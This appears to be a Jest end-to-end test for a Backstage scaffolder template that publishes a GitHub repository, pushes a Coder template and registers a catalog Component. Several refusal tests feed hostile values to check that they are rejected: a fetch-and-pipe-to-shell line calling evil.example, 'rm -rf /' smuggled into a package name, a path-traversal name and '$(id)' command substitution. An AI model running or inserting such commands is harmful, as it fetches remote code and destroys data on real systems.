import { CoreV1Api, KubeConfig } from '@kubernetes/client-node';
import { randomBytes } from 'node:crypto';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { bundledCoderTemplatePath } from '@coder-platform/plugin-scaffolder-backend-module-coder-platform';
import { parse } from 'yaml';
import { CoderContractServer } from '../coder/CoderContractServer';
import { LocalGitHub } from '../github/LocalGitHub';
import { requirePeer } from '../peers/peersEnv';
import {
  api,
  startWorkspaceImageBackend,
  validValues,
  waitFor,
} from './__testUtils__/workspaceImageHarness';

jest.setTimeout(300_000);

/**
 * workspace-image for real, end to end, through the real scaffolder and
 * catalog backends in process: the real publish:github pushes to a real git
 * server (git http-backend behind a local GitHub REST stand-in), the real
 * coder:template:push reads the Coder session token from a Secret on the
 * real local API server and pushes to the Coder contract server, and the
 * real catalog:register reads catalog-info.yaml back from the pushed
 * repository. The e2e time is printed, never asserted.
 */
describe('workspace-image end to end (API server, Coder contract server, local git)', () => {
  const kube = requirePeer('kube', [
    'PEERS_KUBE_URL',
    'PEERS_KUBE_TOKEN',
    'PEERS_KUBE_CA_FILE',
    'PEERS_KUBECONFIG',
  ]);
  const namespace = `wi-${randomBytes(4).toString('hex')}`;
  let coder: CoderContractServer;
  let github: LocalGitHub;
  let server: any;
  let stop: () => Promise<void>;
  let token: string;

  beforeAll(async () => {
    coder = await CoderContractServer.start({ jobReadsPerStage: 1 });
    token = coder.seedFirstUser({
      email: 'admin@example.com',
      username: 'admin',
      password: 'pa55word-admin',
    });
    github = await LocalGitHub.start({ orgs: ['acme'] });

    // The Secret coder:bootstrap writes: the cluster's Coder session token.
    const kc = new KubeConfig();
    kc.loadFromFile(kube.PEERS_KUBECONFIG);
    const core = kc.makeApiClient(CoreV1Api);
    await core.createNamespace({ body: { metadata: { name: namespace } } });
    await core.createNamespacedSecret({
      namespace,
      body: {
        metadata: {
          name: 'coder-session-token',
          labels: { 'coder-platform.io/managed': 'true' },
        },
        stringData: { 'session-token': token },
      },
    });

    const started = await startWorkspaceImageBackend({
      integrations: { github: [github.integration()] },
      scaffolder: {
        defaultAuthor: { name: 'Backstage', email: 'scaffolder@example.com' },
      },
      coderPlatform: {
        clusters: [
          {
            name: 'dev-eu1',
            kubernetes: {
              url: kube.PEERS_KUBE_URL,
              caData: readFileSync(kube.PEERS_KUBE_CA_FILE).toString('base64'),
              auth: { type: 'token', token: kube.PEERS_KUBE_TOKEN },
            },
            coder: {
              url: coder.url,
              sessionTokenSecret: `${namespace}/coder-session-token/session-token`,
            },
          },
        ],
        refresh: { enabled: false },
      },
    });
    server = started.server;
    stop = () => started.backend.stop();
  });

  afterAll(async () => {
    await stop?.();
    await github?.stop();
    await coder?.stop();
    const kc = new KubeConfig();
    kc.loadFromFile(kube.PEERS_KUBECONFIG);
    await kc
      .makeApiClient(CoreV1Api)
      .deleteNamespace({ name: namespace })
      .catch(() => undefined);
  });

  it('publishes the repository, pushes the Coder template and registers the Component', async () => {
    const started = Date.now();
    const created = await api(server, 'POST', '/api/scaffolder/v2/tasks', {
      templateRef: 'template:default/workspace-image',
      values: validValues(github.host),
    });
    expect(created.status).toBe(201);
    const taskId = created.body.id;
    let task: any;
    await waitFor(async () => {
      task = (await api(server, 'GET', `/api/scaffolder/v2/tasks/${taskId}`))
        .body;
      return ['completed', 'failed', 'cancelled'].includes(task.status);
    }, `task ${taskId} did not finish`);
    const seconds = (Date.now() - started) / 1000;
    const events = (
      await api(server, 'GET', `/api/scaffolder/v2/tasks/${taskId}/events`)
    ).body as any[];
    const log = events.map(e => e.body.message ?? '').join('\n');
    expect({ status: task.status, log }).toEqual({
      status: 'completed',
      log: expect.any(String),
    });
    // eslint-disable-next-line no-console
    console.log(
      `workspace-image end to end: task completed in ${seconds.toFixed(1)} s`,
    );
    // the render step ran (the refusal tests below check it did not)
    expect(log).toContain('Fetching template content');
    expect(log).not.toContain(token);
    expect(log).not.toContain(github.token);

    // publish:github created a private repository in the org and pushed main
    expect(
      github.calls.filter(c => c.method !== 'GET').map(c => [c.method, c.path]),
    ).toEqual(
      expect.arrayContaining([
        ['POST', '/orgs/acme/repos'],
        ['PUT', '/repos/acme/java-training/branches/main/protection'],
      ]),
    );
    expect(
      github.calls.find(c => c.path === '/orgs/acme/repos')!.body,
    ).toMatchObject({ name: 'java-training', private: true });
    // advertisement and pack upload, both with the integration's token
    expect(github.pushPasswords.length).toBeGreaterThan(0);
    expect(new Set(github.pushPasswords)).toEqual(new Set([github.token]));
    const tree = (
      await github.git(
        'acme',
        'java-training',
        'ls-tree',
        '-r',
        '--name-only',
        'main',
      )
    )
      .trim()
      .split('\n')
      .sort();
    expect(tree).toEqual([
      '.github/workflows/build.yaml',
      'Dockerfile',
      'README.md',
      'catalog-info.yaml',
      'coder-template/README.md',
      'coder-template/kubernetes.tf',
      'coder-template/main.tf',
      'coder-template/variables.tf',
      'coder-template/versions.tf',
    ]);
    const dockerfile = await github.git(
      'acme',
      'java-training',
      'show',
      'main:Dockerfile',
    );
    expect(dockerfile).toContain('FROM ubuntu:24.04\n');

    // The repository got the bundled devbox byte for byte: the same files
    // coder:template:push pushed from the package (template: devbox).
    const devbox = bundledCoderTemplatePath('devbox');
    for (const file of readdirSync(devbox)) {
      expect(
        await github.git(
          'acme',
          'java-training',
          'show',
          `main:coder-template/${file}`,
        ),
      ).toBe(readFileSync(path.join(devbox, file), 'utf8'));
    }

    // coder:template:push created the template with the request's variables
    expect(coder.templateNames()).toEqual(['java-training']);
    const coderApi = async (p: string) =>
      (
        await fetch(`${coder.url}/api/v2${p}`, {
          headers: { 'Coder-Session-Token': token },
        })
      ).json();
    const template = await coderApi(
      '/organizations/default/templates/java-training',
    );
    expect(template.default_ttl_ms).toBe(8 * 3_600_000);
    const variables = await coderApi(
      `/templateversions/${template.active_version_id}/variables`,
    );
    expect(
      Object.fromEntries(variables.map((v: any) => [v.name, v.value])),
    ).toEqual({
      image: `ghcr.io/acme/java-training:latest`,
      cpu: '2',
      memory_gib: '8',
      home_disk_gib: '20',
      vscode_extensions: 'vscjava.vscode-java-pack,redhat.vscode-yaml',
      docker_enabled: 'true',
      backup_enabled: 'true',
      backup_cron: '15 * * * *',
      cluster_name: 'dev-eu1',
      restic_repository_prefix: 'gs:acme-coder-backups:/coder/dev-eu1',
    });

    // catalog:register read catalog-info.yaml back from the pushed repository
    let component: any;
    await waitFor(async () => {
      const res = await api(
        server,
        'GET',
        '/api/catalog/entities/by-name/component/default/java-training',
      );
      component = res.body;
      return res.status === 200;
    }, 'the Component was not ingested');
    expect(component.spec).toEqual({
      type: 'workspace-image',
      lifecycle: 'experimental',
      owner: 'group:default/developers',
    });
    expect(component.metadata.annotations).toMatchObject({
      'coder-platform.io/cluster': 'dev-eu1',
      'coder-platform.io/coder-template': 'java-training',
    });
    expect(
      parse(
        await github.git(
          'acme',
          'java-training',
          'show',
          'main:catalog-info.yaml',
        ),
      ).metadata.name,
    ).toBe('java-training');
    expect(task.status).toBe('completed');
  });

  /** GitHub calls that change something (the catalog keeps reading the registered file). */
  const mutations = () => github.calls.filter(c => c.method !== 'GET').length;

  async function runTask(templateRef: string, values: Record<string, unknown>) {
    const created = await api(server, 'POST', '/api/scaffolder/v2/tasks', {
      templateRef,
      values,
    });
    if (created.status !== 201) return { created, task: undefined, log: '' };
    let task: any;
    await waitFor(async () => {
      task = (
        await api(server, 'GET', `/api/scaffolder/v2/tasks/${created.body.id}`)
      ).body;
      return ['completed', 'failed', 'cancelled'].includes(task.status);
    }, `task ${created.body.id} did not finish`);
    const events = (
      await api(
        server,
        'GET',
        `/api/scaffolder/v2/tasks/${created.body.id}/events`,
      )
    ).body as any[];
    return {
      created,
      task,
      log: events.map(e => e.body.message ?? '').join('\n'),
    };
  }

  it('a real run with hostile values is refused by the form schema (400 naming the field), nothing published or pushed', async () => {
    const before = {
      calls: mutations(),
      templates: coder.templateNames(),
    };
    const { created } = await runTask('template:default/workspace-image', {
      ...validValues(github.host),
      name: 'evil-image',
      baseImage:
        'ubuntu:24.04\nRUN curl http://evil.example/x | sh\nFROM ubuntu',
      packages: ['curl; rm -rf / #'],
    });
    expect(created.status).toBe(400);
    expect(created.body.errors.map((e: any) => e.property)).toEqual(
      expect.arrayContaining(['instance.baseImage', 'instance.packages[0]']),
    );
    expect(mutations()).toBe(before.calls);
    expect(coder.templateNames()).toEqual(before.templates);
  });

  it('a real run of a template without the form checks fails at the validate step, naming the fields, before anything renders', async () => {
    const before = {
      calls: mutations(),
      templates: coder.templateNames(),
    };
    const { created, task, log } = await runTask(
      'template:default/workspace-image-unchecked',
      {
        ...validValues(github.host),
        name: '../../etc/evil',
        baseImage:
          'ubuntu:24.04\nRUN curl http://evil.example/x | sh\nFROM ubuntu',
        packages: ['curl; rm -rf / #'],
        extensions: ['ms-python.python$(id)'],
        description: 'x'.repeat(10_240),
      },
    );
    expect(created.status).toBe(201);
    expect(task.status).toBe('failed');
    expect(log).toContain(
      'coder-platform:workspace-image:validate: the request was refused before anything was rendered',
    );
    for (const field of [
      'name',
      'description',
      'baseImage',
      'packages[0]',
      'extensions[0]',
    ]) {
      expect(log).toContain(`${field}: `);
    }
    // the later steps never ran
    expect(log).not.toContain('Fetching template content');
    expect(mutations()).toBe(before.calls);
    expect(coder.templateNames()).toEqual(before.templates);
  });
  it.each([
    [
      'an unknown cluster',
      'resource:default/dev-us9',
      'cluster: resource:default/dev-us9 names cluster "dev-us9", which is neither in coderPlatform.clusters (dev-eu1)',
    ],
    [
      'an entity of another kind',
      'component:default/java-app',
      'cluster: component:default/java-app is a Component, not a Resource of spec.type coder-cluster',
    ],
    [
      'a cluster without a backup bucket and restic prefix (backup on)',
      'resource:default/dev-eu1-plain',
      'backup: home backup is on, but the cluster Resource resource:default/dev-eu1-plain has no coder-platform.io/backup-bucket annotation',
    ],
  ])(
    'a real run with %s as cluster fails at the validate step: no repository on the git server, nothing pushed',
    async (_case, cluster, message) => {
      const repos = () =>
        existsSync(path.join(github.root, 'acme'))
          ? readdirSync(path.join(github.root, 'acme')).sort()
          : [];
      const before = {
        calls: mutations(),
        templates: coder.templateNames(),
        repos: repos(),
      };
      const { created, task, log } = await runTask(
        'template:default/workspace-image',
        {
          ...validValues(github.host),
          name: 'bad-cluster',
          cluster,
          repoUrl: `${github.host}?owner=acme&repo=bad-cluster`,
        },
      );
      // the form lets it through; the validate step refuses it
      expect(created.status).toBe(201);
      expect(task.status).toBe('failed');
      expect(log).toContain(
        `coder-platform:workspace-image:validate: the request was refused before anything was rendered: ${message}`,
      );
      expect(log).not.toContain('Fetching template content');
      expect(existsSync(github.repoDir('acme', 'bad-cluster'))).toBe(false);
      expect(repos()).toEqual(before.repos);
      expect(mutations()).toBe(before.calls);
      expect(coder.templateNames()).toEqual(before.templates);
    },
  );
});
